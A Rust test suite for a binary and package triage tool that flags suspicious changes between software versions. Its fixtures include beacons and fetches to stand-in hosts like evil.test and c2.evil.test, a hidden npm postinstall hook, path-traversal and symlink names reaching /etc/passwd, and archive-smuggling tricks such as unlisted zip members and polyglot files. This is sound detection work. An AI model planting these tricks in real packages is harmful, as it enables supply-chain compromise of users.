//! Programs, archives, modules and documents, made here byte by byte. What is signed is in `signed.rs`.

#![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "a test says what went wrong by panicking")]

mod made;

use std::io::Write;
use std::time::Instant;

use flate2::Compression;
use flate2::write::GzEncoder;
use pinfold_triage::{
    Capability, Change, Contents, Findings, Format, Limits, Member, Names, NotAnalysed, OddityKind, compare,
};

use made::{Pe, Zip, asar, asar_of, le, tarball, tarball_of, wasm};

fn changed(old: &[u8], new: &[u8]) -> Findings {
    compare(Some(old), new, Limits::default(), &|_| None)
}

fn contents(findings: &Findings) -> &Contents {
    findings.contents.as_deref().unwrap()
}

fn member<'f>(findings: &'f Findings, name: &str) -> &'f Member {
    contents(findings).members.iter().find(|member| &*member.name == name).unwrap()
}

fn odd(findings: &Findings) -> Vec<(OddityKind, &str)> {
    contents(findings).oddities.iter().map(|oddity| (oddity.kind, &*oddity.member)).collect()
}

fn names<'f>(findings: &'f Findings, kind: &str) -> &'f Names {
    contents(findings).names.iter().find(|names| names.kind == kind).unwrap()
}

fn does(findings: &Findings) -> Vec<Capability> {
    findings.facts.iter().map(|fact| fact.capability).collect()
}

fn hosts(findings: &Findings) -> Vec<&str> {
    findings.hosts.iter().map(|host| &*host.host).collect()
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

#[test]
fn a_type_is_read_off_the_bytes() {
    for (bytes, format) in [
        (Pe::new().bytes(), Format::Pe),
        (b"\x7fELF\x02\x01\x01".to_vec(), Format::Elf),
        (b"\xcf\xfa\xed\xfe\x07\0\0\x01".to_vec(), Format::MachO),
        (b"\xca\xfe\xba\xbe\0\0\0\x02".to_vec(), Format::MachO),
        (b"\xca\xfe\xba\xbe\0\0\0\x41".to_vec(), Format::Other),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec(), Format::Ole),
        (b"xar!\0\x1c\0\x01".to_vec(), Format::Xar),
        (Zip::new().stored("a", b"b").bytes(), Format::Zip),
        (Zip::new().stored("a.nuspec", b"<package/>").bytes(), Format::Nupkg),
        (asar(&[("a.js", b"1")]), Format::Asar),
        (gzip(b"a"), Format::Gzip),
        (tarball(&[("a", b"b")]), Format::Tar),
        (wasm(&[("env", "log")], &[]), Format::Wasm),
        (b"MSCF\0\0\0\0".to_vec(), Format::Cabinet),
        (b"7z\xbc\xaf\x27\x1c".to_vec(), Format::SevenZip),
        (b"\n<!doctype html>".to_vec(), Format::Document),
        (b"\0\x01\x02".to_vec(), Format::Other),
    ] {
        let found = compare(None, &bytes, Limits::default(), &|_| None);
        assert_eq!(contents(&found).format, format, "{format:?}");
        assert_eq!(found.change, Change::New);
    }
}

#[test]
fn a_changed_program_has_its_sections_imports_and_hosts_named() {
    let old = Pe::new().section(".text", 0x6000_0020, &[0x90; 512]).import("KERNEL32.dll", &["ExitProcess"]);
    let noise: Vec<u8> = (0..512_u32).map(|at| (at.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    let new = Pe::new()
        .section(".text", 0x6000_0020, &[0x91; 512])
        .section(".packed", 0xe000_0020, &[noise.as_slice(), b"\0http://c2.evil.test/gate\0"].concat())
        .import("KERNEL32.dll", &["ExitProcess"])
        .import("WS2_32.dll", &["connect", "send"])
        .time(1_700_000_000);

    let found = changed(&old.bytes(), &new.bytes());

    assert_eq!((found.change, found.not_analysed.clone()), (Change::Contents, None));
    let imports = names(&found, "imports");
    assert_eq!(imports.added, ["WS2_32.dll!connect".into(), "WS2_32.dll!send".into()]);
    assert_eq!((imports.added_count, imports.removed_count), (2, 0));
    assert_eq!(names(&found, "libraries").added, ["WS2_32.dll".into()]);
    let packed = contents(&found).sections.iter().find(|section| &*section.name == ".packed").unwrap();
    let facts = packed.new.unwrap();
    assert!(packed.notable && packed.reviewed.is_none());
    assert!(facts.writable && facts.executable && facts.entropy > 5.0, "{facts:?}");
    let text = contents(&found).sections.iter().find(|section| &*section.name == ".text").unwrap();
    assert!(!text.notable, "as large and as uniform as before");
    assert_eq!(hosts(&found), ["c2.evil.test"]);
    let time = contents(&found).properties.iter().find(|one| one.what.starts_with("compiled")).unwrap();
    assert_eq!(time.new.as_deref(), Some("2023-11-14T22:13:20Z"));
    assert_eq!(contents(&found).signing.as_ref().unwrap().change.code(), "unsigned");
}

#[test]
fn an_archive_behind_the_end_of_a_program_is_looked_into() {
    let program = Pe::new().section(".text", 0x6000_0020, b"code").bytes();
    let old = [program.as_slice(), &Zip::new().deflated("app.js", b"start()").bytes()].concat();
    let new = [program.as_slice(), &Zip::new().deflated("app.js", b"start(); fetch('//evil.test/')").bytes()]
        .concat();

    let found = changed(&old, &new);

    let inner = member(&found, "(behind its end)").findings.as_deref().unwrap();
    let script = member(inner, "app.js").findings.as_deref().unwrap();
    assert_eq!(does(script), [Capability::Fetch]);
    assert_eq!(hosts(&found), ["evil.test"], "what is named inside is named in front");
}

#[test]
fn a_program_that_is_a_script_too_is_read_as_both() {
    // `MZ` is a name, and what follows is a comment for one reader and a program for the other.
    let mut bytes = Pe::new().section(".text", 0x6000_0020, b"code").bytes();
    bytes.splice(2..4, *b"/*");
    bytes.extend_from_slice(b"*/=1;fetch('https://evil.test/')");

    let found = compare(None, &bytes, Limits::default(), &|_| None);

    assert_eq!(contents(&found).format, Format::Pe);
    assert_eq!(does(&found), [Capability::Fetch]);
}

#[test]
fn a_zip_behind_a_script_is_looked_into_and_the_script_too() {
    let zip = Zip::new().stored("run.js", b"eval(x)").bytes();
    let bytes = [b"fetch('/a');/*".as_slice(), &zip].concat();

    let found = changed(b"go()", &bytes);

    assert!(odd(&found).contains(&(OddityKind::Prefixed, "")));
    assert_eq!(does(member(&found, "run.js").findings.as_deref().unwrap()), [Capability::Eval]);
}

#[test]
fn members_are_added_removed_changed_and_the_same() {
    let old =
        Zip::new().stored("same", b"1").stored("gone", b"1").stored("data", b"1").deflated("packed", b"2");
    let new = Zip::new().stored("same", b"1").stored("new", b"1").stored("data", b"2").stored("packed", b"2");

    let found = changed(&old.bytes(), &new.bytes());

    let counts = contents(&found).counts;
    assert_eq!((counts.added, counts.removed, counts.changed, counts.same), (1, 1, 1, 2));
    let data = member(&found, "data");
    assert_ne!(data.reviewed.as_ref().unwrap().digest, data.new.as_ref().unwrap().digest);
    assert!(
        contents(&found).members.iter().all(|member| &*member.name != "packed"),
        "packed otherwise is the same"
    );
}

#[test]
fn a_script_in_an_asar_is_compared_as_a_script() {
    let old = asar(&[("main.js", b"boot()"), ("lib/a.js", b"a()")]);
    let new =
        asar(&[("main.js", b"boot()"), ("lib/a.js", b"a(); navigator.sendBeacon('https://evil.test/', d)")]);
    let found = changed(&old, &new);
    let script = member(&found, "lib/a.js").findings.as_deref().unwrap();
    assert_eq!((does(script), script.change), (vec![Capability::Beacon], Change::Code));
    assert_eq!(contents(&found).counts.same, 1);
}

#[test]
fn a_long_name_above_many_files_is_not_written_out_for_each() {
    let files: serde_json::Map<_, _> = (0..20_000)
        .map(|number| (number.to_string(), serde_json::json!({ "size": 0, "offset": "0" })))
        .collect();
    let long = "a".repeat(1 << 20);
    let bomb = asar_of(&serde_json::json!({ "files": { long: { "files": files } } }), b"");
    let found = changed(&asar(&[("a.js", b"1")]), &bomb);
    assert_eq!(found.not_analysed.as_ref().map(NotAnalysed::code), Some("malformed"));
    assert_eq!(contents(&found).counts.added, 0, "20 GiB of names");
}

#[test]
fn an_install_script_of_an_npm_package_is_named() {
    let old =
        gzip(&tarball(&[("package/package.json", br#"{"scripts":{"test":"t"},"dependencies":{"a":"1"}}"#)]));
    let new = gzip(&tarball(&[
        (
            "package/package.json",
            br#"{"scripts":{"test":"t2","postinstall":"node x.js"},"dependencies":{"a":"1","flat":"0.1"}}"#,
        ),
        ("package/x.js", b"require('https').get('https://evil.test/')"),
        ("package/binding.gyp", b"{}"),
    ]));

    let found = changed(&old, &new);

    let scripts: Vec<_> = contents(&found)
        .install_scripts
        .iter()
        .map(|script| (&*script.name, script.new.as_deref()))
        .collect();
    assert!(scripts.contains(&("postinstall", Some("node x.js"))), "{scripts:?}");
    assert!(scripts.iter().any(|(name, run)| *name == "install" && run.unwrap().contains("binding.gyp")));
    assert_eq!(scripts.len(), 2, "what npm does not run by itself is none: {scripts:?}");
    assert_eq!(names(&found, "dependencies").added, ["flat 0.1".into()]);
    assert_eq!(hosts(&found), ["evil.test"]);
}

#[test]
fn names_that_lead_out_are_told() {
    let zip = Zip::new()
        .stored("../../up", b"1")
        .stored("/etc/cron.d/x", b"1")
        .stored("C:\\x", b"1")
        .stored("a/../b", b"1");
    let found = changed(&Zip::new().stored("b", b"1").bytes(), &zip.bytes());
    let outside: Vec<_> = odd(&found)
        .into_iter()
        .filter(|(kind, _)| *kind == OddityKind::Outside)
        .map(|(_, name)| name)
        .collect();
    assert_eq!(outside, ["../../up", "/etc/cron.d/x", "C:\\x"]);
}

#[test]
fn a_link_that_leads_out_is_told() {
    let mut builder = tar::Builder::new(Vec::new());
    for (name, target) in [("a/out", "../../etc/passwd"), ("a/in", "../b"), ("root", "/etc/passwd")] {
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(tar::EntryType::Symlink);
        header.set_size(0);
        builder.append_link(&mut header, name, target).unwrap();
    }
    let found = changed(&tarball(&[("b", b"1")]), &builder.into_inner().unwrap());
    assert_eq!(odd(&found), [(OddityKind::LinkOutside, "a/out"), (OddityKind::LinkOutside, "root")]);
}

#[test]
fn a_packed_link_that_leads_out_is_told() {
    let old = Zip::new().stored("b", b"1").bytes();
    for is_deflated in [false, true] {
        let found = changed(&old, &Zip::new().linked("a", b"../../etc/passwd", is_deflated).bytes());
        assert_eq!(odd(&found), [(OddityKind::LinkOutside, "a")], "{is_deflated}");
    }
    let root = serde_json::json!({ "files": { "a": { "link": "../../up" } } });
    let found = changed(&asar(&[("a.js", b"1")]), &asar_of(&root, b""));
    assert_eq!(odd(&found), [(OddityKind::LinkOutside, "a")]);
}

#[test]
fn a_link_that_leads_elsewhere_inside_is_a_change() {
    let asar_link =
        |target: &str| asar_of(&serde_json::json!({ "files": { "main.js": { "link": target } } }), b"");
    let tar_link = |kind, target| tarball_of(&[("main.js", kind, target, b"")]);
    for (old, new) in [
        (asar_link("good.js"), asar_link("evil.js")),
        (tar_link(b'2', "good.js"), tar_link(b'2', "evil.js")),
        (tar_link(b'1', "good.js"), tar_link(b'1', "evil.js")),
    ] {
        let found = changed(&old, &new);
        assert_eq!(contents(&found).counts.changed, 1);
        assert!(member(&found, "main.js").new.is_some());
    }
}

#[test]
fn a_file_that_becomes_a_link_is_told_though_its_bytes_are_the_same() {
    let found =
        changed(&Zip::new().stored("a", b"b/c").bytes(), &Zip::new().linked("a", b"b/c", false).bytes());
    assert_eq!((odd(&found), contents(&found).counts.changed), (vec![(OddityKind::OtherRole, "a")], 1));
}

#[test]
fn a_member_of_a_type_that_readers_take_for_a_file_is_looked_into() {
    // Not known (POSIX: a file), sparse, and a folder that holds bytes.
    for kind in [b'Z', b'5'] {
        let found = changed(&tarball(&[("b", b"1")]), &tarball_of(&[("a.js", kind, "", b"eval(x)")]));
        assert_eq!(does(member(&found, "a.js").findings.as_deref().unwrap()), [Capability::Eval], "{kind}");
    }
    let device = |kind| tarball_of(&[("a", kind, "", b"")]);
    assert_eq!(odd(&changed(&tarball(&[("b", b"1")]), &device(b'3'))), [(OddityKind::OtherRole, "a")]);
    let sparse = |data: &[u8]| {
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(tar::EntryType::GNUSparse);
        header.set_path("a").unwrap();
        header.set_size(data.len() as u64);
        header.as_gnu_mut().unwrap().realsize[..12].copy_from_slice(b"00000000003\0");
        header.as_gnu_mut().unwrap().sparse[0].offset[..12].copy_from_slice(b"00000000000\0");
        header.as_gnu_mut().unwrap().sparse[0].numbytes[..12].copy_from_slice(b"00000000003\0");
        header.set_cksum();
        let mut builder = tar::Builder::new(Vec::new());
        builder.append(&header, data).unwrap();
        builder.into_inner().unwrap()
    };
    assert_eq!(contents(&changed(&sparse(b"one"), &sparse(b"two"))).counts.changed, 1);
}

#[test]
fn a_size_in_an_extension_that_is_not_that_of_the_header_is_told() {
    // For who does not read extensions, the second member is there, and for others it is data of the first.
    let inner = tarball(&[("evil.js", b"eval(x)")]);
    let hidden = &inner[..1024];
    let record = format!("13 size={}\n", hidden.len());
    assert_eq!(record.len(), 13);
    let mut bytes = tarball_of(&[("ext", b'x', "", record.as_bytes())]);
    bytes.truncate(1024);
    bytes.extend(&tarball_of(&[("readme", b'0', "", b"")])[..512]);
    bytes.extend(hidden);
    bytes.extend([0; 1024]);
    let found = changed(&tarball(&[("b", b"1")]), &bytes);
    assert!(
        odd(&found).contains(&(OddityKind::HeadersDiffer, "readme")),
        "{:?} {:?}",
        odd(&found),
        found.not_analysed
    );
}

#[test]
fn a_name_that_stands_there_twice_is_told_and_both_are_looked_into() {
    let new = Zip::new().stored("a.js", b"one()").stored("A.js", b"eval(x)");
    let found = changed(&Zip::new().stored("a.js", b"one()").bytes(), &new.bytes());
    assert_eq!(odd(&found), [(OddityKind::Twice, "A.js")]);
    assert_eq!(does(member(&found, "A.js (2)").findings.as_deref().unwrap()), [Capability::Eval]);
}

#[test]
fn two_names_of_one_place_are_told() {
    for twin in ["./a.js", "x/../a.js", "a.js.", "A.JS ", "a.js\0.txt", ".\\a.js"] {
        let new = Zip::new().stored("a.js", b"one()").stored(twin, b"eval(x)");
        let found = changed(&Zip::new().stored("a.js", b"one()").bytes(), &new.bytes());
        assert_eq!(odd(&found), [(OddityKind::Twice, twin)]);
    }
}

#[test]
fn many_members_of_one_name_take_no_more_time_than_as_many_others() {
    // Counted through from the first one on for each of them, it would not end.
    let many = (0..40_000).fold(Zip::new(), |zip, _| zip.stored("a", b""));
    let found = changed(&Zip::new().stored("b", b"1").bytes(), &many.bytes());
    assert_eq!(contents(&found).counts.added, 40_000);
}

#[test]
fn many_oddities_of_one_kind_hide_none_of_another() {
    let mut zip = Zip::new();
    for _ in 0..300 {
        zip = zip.stored("a", b"1");
    }
    let found = changed(&Zip::new().stored("a", b"1").bytes(), &zip.encrypted("z.js", b"?").bytes());
    assert!(odd(&found).contains(&(OddityKind::Encrypted, "z.js")));
}

#[test]
fn a_name_in_an_extra_field_is_told() {
    let field = [b"up\x0f\0\x01\0\0\0\0".as_slice(), b"../evil.js"].concat();
    let zip = Zip::new().stored("readme.txt", b"1").extra(&field);
    let found = changed(&Zip::new().stored("readme.txt", b"2").bytes(), &zip.bytes());
    assert_eq!(odd(&found), [(OddityKind::HeadersDiffer, "readme.txt")]);
}

#[test]
fn a_directory_that_lists_more_than_it_says_is_told() {
    let mut bytes = Zip::new().stored("a", b"1").stored("evil.js", b"eval(x)").bytes();
    let end = bytes.len() - 22;
    bytes[end + 8..end + 12].copy_from_slice(&[1, 0, 1, 0]);
    let found = changed(&Zip::new().stored("a", b"1").bytes(), &bytes);
    assert_eq!(odd(&found), [(OddityKind::OtherCount, "")]);
}

#[test]
fn large_numbers_that_are_not_the_small_ones_are_told() {
    let (plain, old) = (Zip::new().stored("a", b"1"), Zip::new().stored("a", b"0").bytes());
    let bytes = plain.bytes();
    let (front, end) = bytes.split_at(bytes.len() - 22);
    let (len, place) =
        (u64::from(plain.directory_len()), front.len() as u64 - u64::from(plain.directory_len()));
    let zip64 = |len: u64, place: u64, small: &[u8]| {
        let large = [b"PK\x06\x06".as_slice(), &[0; 36], &len.to_le_bytes(), &place.to_le_bytes()].concat();
        let locator = [b"PK\x06\x07\0\0\0\0".as_slice(), &(front.len() as u64).to_le_bytes(), &[1, 0, 0, 0]];
        [front, &large, &locator.concat(), small].concat()
    };
    assert_eq!(odd(&changed(&old, &zip64(len, place, end))), [], "both say the same");
    let mut other = end.to_vec();
    other[16..20].copy_from_slice(&le(7));
    assert_eq!(odd(&changed(&old, &zip64(len, place, &other))), [(OddityKind::TwoDirectories, "")]);
}

#[test]
fn many_empty_pieces_of_a_gzip_file_end() {
    let found = changed(b"a", &gzip(b"").repeat(60_000));
    assert_eq!(found.not_analysed.as_ref().map(NotAnalysed::code), Some("malformed"));
}

#[test]
fn a_manifest_is_read_as_npm_reads_it() {
    let hooks = |name: &str, manifest: &[u8]| {
        let old = tarball(&[("package/package.json", b"{}")]);
        let found =
            changed(&gzip(&old), &gzip(&tarball(&[("package/package.json", b"{}"), (name, manifest)])));
        (
            contents(&found).install_scripts.len(),
            odd(&found).iter().any(|(kind, _)| *kind == OddityKind::Manifest),
        )
    };
    let evil = br#"{"scripts":{"postinstall":"node x.js","preuninstall":"never"}}"#;
    let marked = [b"\xef\xbb\xbf".as_slice(), evil].concat();
    assert_eq!(hooks("a/package.json", &marked).0, 1, "a byte order mark");
    assert_eq!(hooks("a/Package.JSON", evil).0, 1, "where case does not matter");
    // The second one of a name is the one that is there in the end.
    assert_eq!(hooks("package/package.json", evil).0, 1);
    let deep = format!(r#"{{"x":{}{},"scripts":{{"postinstall":"x"}}}}"#, "[".repeat(300), "]".repeat(300));
    assert!(hooks("a/package.json", deep.as_bytes()).1, "what is not read is said");
}

#[test]
fn what_a_package_brings_along_is_named() {
    let package = |json: &str| tarball(&[("package/package.json", json.as_bytes())]);
    for (key, list, said) in [
        ("bundleDependencies", r#"["evil"]"#, "evil (bundled)"),
        ("bundledDependencies", r#"["evil"]"#, "evil (bundled)"),
        ("bundleDependencies", "true", "all of them (bundled)"),
    ] {
        let found = changed(&package("{}"), &package(&format!(r#"{{"{key}":{list}}}"#)));
        assert_eq!(names(&found, "dependencies").added, [said.into()]);
    }
}

#[test]
fn the_version_that_a_package_says_is_told() {
    let package = |version: &str| {
        tarball(&[("package/package.json", format!(r#"{{"version":"{version}"}}"#).as_bytes())])
    };
    let found = changed(&package("1.2.3"), &package("1.3.0"));
    assert_eq!(found.version.unwrap().text(), "says that it is 1.3.0, was 1.2.3");
}

#[test]
fn many_urls_of_a_known_host_push_out_no_new_one() {
    let known: String = (0..12_000).map(|number| format!("https://known.test/{number}\0")).collect();
    let new = [b"\0\x01https://known.test/\0".as_slice(), known.as_bytes(), b"https://evil.test/\0"].concat();
    let found = changed(b"\0\x01https://known.test/\0", &new);
    assert_eq!(hosts(&found), ["evil.test"]);
    let many: String = (0..12_000).map(|number| format!("https://h{number}.test/\0")).collect();
    let new = [b"\0\x01".as_slice(), many.as_bytes(), b"https://evil.test/\0"].concat();
    let found = changed(&Pe::new().bytes(), &[Pe::new().bytes(), new].concat());
    assert_eq!(found.not_analysed, Some(NotAnalysed::TooManyHosts));
}

#[test]
fn a_header_that_says_something_else_than_the_directory_is_told() {
    let mut bytes = Zip::new().stored("readme.txt", b"1").bytes();
    bytes[30..40].copy_from_slice(b"install.js");
    let found = changed(&Zip::new().stored("readme.txt", b"2").bytes(), &bytes);
    assert_eq!(odd(&found), [(OddityKind::HeadersDiffer, "readme.txt")]);
}

#[test]
fn a_member_that_the_directory_does_not_list_is_found() {
    let new = Zip::new().stored("a", b"1").hidden("evil.js", b"eval(x)").stored("b", b"1");
    let found = changed(&Zip::new().stored("a", b"1").bytes(), &new.bytes());
    assert!(odd(&found).contains(&(OddityKind::Unlisted, "evil.js")), "{:?}", odd(&found));
    assert_eq!(does(member(&found, "evil.js").findings.as_deref().unwrap()), [Capability::Eval]);
}

#[test]
fn two_directories_are_told() {
    let first = Zip::new().stored("a", b"1").bytes();
    let both = [Zip::new().stored("b", b"2").bytes(), first.clone()].concat();
    assert!(odd(&changed(&first, &both)).contains(&(OddityKind::TwoDirectories, "")));
}

#[test]
fn members_that_share_bytes_are_told() {
    let found =
        changed(&Zip::new().stored("a", b"1").bytes(), &Zip::new().stored("a", b"22").again("b", 0).bytes());
    assert!(odd(&found).iter().any(|(kind, _)| *kind == OddityKind::Overlapping), "{:?}", odd(&found));
}

#[test]
fn an_encrypted_member_is_said_to_be_one() {
    let found =
        changed(&Zip::new().stored("a.js", b"1").bytes(), &Zip::new().encrypted("a.js", b"??").bytes());
    assert_eq!(odd(&found), [(OddityKind::Encrypted, "a.js")]);
    assert_eq!(member(&found, "a.js").findings.as_ref().unwrap().not_analysed, Some(NotAnalysed::Encrypted));
}

#[test]
fn a_bomb_is_not_unpacked() {
    let bomb = Zip::new().deflated("bomb", &vec![0; 8 << 20]).bytes();
    let found = changed(&Zip::new().stored("a", b"1").bytes(), &bomb);
    let why = member(&found, "bomb").findings.as_ref().unwrap().not_analysed.clone();
    assert_eq!(why, Some(NotAnalysed::Ratio { limit: 200 }));
    let packed = compare(Some(b"a"), &gzip(&vec![0; 8 << 20]), Limits::default(), &|_| None);
    assert_eq!(packed.not_analysed, Some(NotAnalysed::Ratio { limit: 200 }));
}

#[test]
fn archives_inside_each_other_end_at_the_limit() {
    let mut inner = Zip::new().stored("a.js", b"eval(x)").bytes();
    for _ in 0..6 {
        inner = Zip::new().stored("in.zip", &inner).bytes();
    }
    let found = compare(None, &inner, Limits::default(), &|_| None);
    let mut layer = &found;
    let mut depth = 0;
    while let Some(next) = contents(layer).members.first() {
        layer = next.findings.as_deref().unwrap();
        depth += 1;
    }
    assert_eq!((depth, layer.not_analysed.clone()), (3, Some(NotAnalysed::Layers { limit: 3 })));
}

#[test]
fn too_many_members_too_much_of_them_and_too_little_time_are_said() {
    let many = (0..20).fold(Zip::new(), |zip, number| zip.stored(&format!("{number}"), b"some bytes"));
    for (limits, code) in [
        (Limits { members: 5, ..Limits::default() }, "too-much"),
        (Limits { unpacked: 50, ..Limits::default() }, "too-much"),
        (Limits { body: 50, ..Limits::default() }, "too-large"),
        (Limits::default().until(Instant::now()), "time-over"),
    ] {
        let found = compare(Some(&Zip::new().bytes()), &many.bytes(), limits, &|_| None);
        assert_eq!(found.not_analysed.as_ref().map(NotAnalysed::code), Some(code), "{limits:?}");
    }
}

#[test]
fn what_stands_behind_the_end_of_a_tar_is_told() {
    let tar = tarball(&[("a", b"1")]);
    let found = changed(&tar, &[tar.as_slice(), b"hidden"].concat());
    assert_eq!(odd(&found), [(OddityKind::Appended, "")]);
    let zipped = gzip(&tar);
    assert_eq!(
        odd(&changed(&zipped, &[zipped.as_slice(), b"hidden"].concat())),
        [(OddityKind::Appended, "")]
    );
}

#[test]
fn a_module_of_webassembly_names_what_it_takes_and_gives() {
    let old = wasm(&[("env", "log")], &["run"]);
    let new = wasm(&[("env", "log"), ("env", "fetch")], &["run", "backdoor"]);
    let found = changed(&old, &new);
    assert_eq!(names(&found, "imports").added, ["env.fetch".into()]);
    assert_eq!(names(&found, "exports").added, ["backdoor".into()]);
    let evil = [new.as_slice(), &[0, 24, 4], b"meta", b"https://evil.test/x"].concat();
    let found = changed(&new, &evil);
    assert_eq!(hosts(&found), ["evil.test"]);
    assert_eq!(&*contents(&found).sections[0].name, "custom meta");
}

#[test]
fn streams_of_a_compound_file_are_members() {
    let file = |script: &[u8]| {
        let mut file = cfb::CompoundFile::create(std::io::Cursor::new(Vec::new())).unwrap();
        file.create_stream("/Binary.action").unwrap().write_all(script).unwrap();
        file.create_stream("/other").unwrap().write_all(b"1").unwrap();
        file.flush().unwrap();
        file.into_inner().into_inner()
    };
    let found = changed(&file(b"install()"), &file(b"install(); fetch('https://evil.test/')"));
    assert_eq!(contents(&found).format, Format::Ole);
    assert_eq!(does(member(&found, "Binary.action").findings.as_deref().unwrap()), [Capability::Fetch]);
    assert_eq!((contents(&found).counts.same, hosts(&found)), (1, vec!["evil.test"]));
}

#[test]
fn the_code_in_a_document_is_compared() {
    let old = "<html><script>start()</script><body>";
    for (new, wanted) in [
        ("<html><script>start()</script><body><script>fetch('/a')</script>", Capability::Fetch),
        ("<html><script>start()</script><body onload=\"fetch(&quot;/a&quot;)\">", Capability::Fetch),
        ("<html><script>start()</script><a href='java\nscript:eval(x)'>", Capability::Eval),
        ("<html><script>start()</script><script>broken(</script><script>eval(x)</script>", Capability::Eval),
    ] {
        let found = changed(old.as_bytes(), new.as_bytes());
        assert_eq!(does(&found), [wanted], "{new}");
        assert_eq!(contents(&found).format, Format::Document);
    }
}

#[test]
fn a_document_that_is_one_comment_as_a_script_is_read_as_a_document() {
    // Browsers end this comment at once; a script has one that goes to the end of the line.
    let found = changed(b"<!-- a -->", b"<!--><script>fetch('https://evil.test/')</script>");
    assert_eq!(does(&found), [Capability::Fetch]);
    assert_eq!(hosts(&found), ["evil.test"]);
}

#[test]
fn a_document_that_is_a_script_too_is_read_as_both() {
    let found = changed(b"<!-- a", b"<!-- a\neval(x)//<script>fetch('/a')</script>");
    let does = does(&found);
    assert!(does.contains(&Capability::Eval) && does.contains(&Capability::Fetch), "{does:?}");
}

#[test]
fn another_type_than_before_is_told() {
    let found = changed(b"go()", &Pe::new().bytes());
    assert_eq!((contents(&found).reviewed_format, contents(&found).format), (Some(Format::Text), Format::Pe));
}

#[test]
fn what_is_cut_off_is_said_and_ends() {
    for whole in [
        Pe::new().section(".text", 0x6000_0020, &[1; 99]).import("a.dll", &["b"]).bytes(),
        Zip::new().stored("a", b"1").deflated("b", b"2").bytes(),
        asar(&[("a.js", b"1")]),
        gzip(&tarball(&[("a", b"b")])),
        wasm(&[("a", "b")], &["c"]),
    ] {
        for len in (0..whole.len()).step_by(7) {
            let found = changed(&whole, &whole[..len]);
            assert_ne!(found.not_analysed, Some(NotAnalysed::Failed), "{len}");
            let found = changed(&whole[..len], &whole);
            assert_ne!(found.not_analysed, Some(NotAnalysed::Failed), "{len}");
        }
    }
}

#[test]
fn a_section_that_points_behind_the_end_has_no_bytes() {
    let mut bytes = Pe::new().section(".text", 0x6000_0020, &[1; 99]).bytes();
    let at = bytes.windows(5).position(|window| window == b".text").unwrap();
    bytes[at + 16..at + 24].copy_from_slice(&[le(u32::MAX), le(u32::MAX)].concat());
    let found = changed(&Pe::new().section(".text", 0x6000_0020, &[1; 99]).bytes(), &bytes);
    assert_eq!(contents(&found).sections[0].new.unwrap().size, 0);
}

/// Each as long as the file, and looked at as often as there are sections: hours, for a file of a mebibyte.
#[test]
fn sections_that_overlap_are_not_looked_at_for_each() {
    let program = |byte: u8| {
        let mut bytes = Pe::new().section(".text", 0x6000_0020, b"x").bytes();
        bytes.truncate(0x80 + 24 + 240);
        bytes[0x86..0x88].copy_from_slice(&60_000_u16.to_le_bytes());
        let len = 4 << 20;
        for _ in 0..60_000 {
            bytes.extend(
                [&[b'a'; 8], le(len).as_slice(), &le(0x1000), &le(len), &le(0), &[0; 12], &le(0)].concat(),
            );
        }
        bytes.resize(len as usize, byte);
        bytes
    };
    let findings = changed(&program(1), &program(2));
    assert_eq!(findings.not_analysed, Some(NotAnalysed::TooMuch));
    assert!(contents(&findings).sections.len() <= 5, "{}", contents(&findings).sections.len());
}

#[test]
fn more_sections_of_a_module_than_are_told_apart_are_said() {
    let module = |byte: u8| [&wasm(&[], &[])[..8], &[0, 2, 1, byte].repeat(100_000)].concat();
    let findings = changed(&module(b'a'), &module(b'b'));
    assert_eq!(findings.not_analysed, Some(NotAnalysed::TooMuch));
}

/// A JAR behind an MSI runs as a JAR, and the signature stays that of the MSI (CVE-2020-1464).
#[test]
fn an_archive_behind_a_compound_file_or_a_program_of_linux_is_looked_into() {
    let mut file = cfb::CompoundFile::create(std::io::Cursor::new(Vec::new())).unwrap();
    file.create_stream("/table").unwrap().write_all(b"1").unwrap();
    file.flush().unwrap();
    let compound = file.into_inner().into_inner();
    let jar = Zip::new().stored("evil.js", b"fetch('https://evil.test/')").bytes();
    for old in [compound, b"\x7fELF\x02\x01\x01".to_vec()] {
        let found = changed(&old, &[old.as_slice(), &jar].concat());
        assert_eq!(&*member(&found, "(behind its end)").name, "(behind its end)");
        assert_eq!(hosts(&found), ["evil.test"]);
    }
}
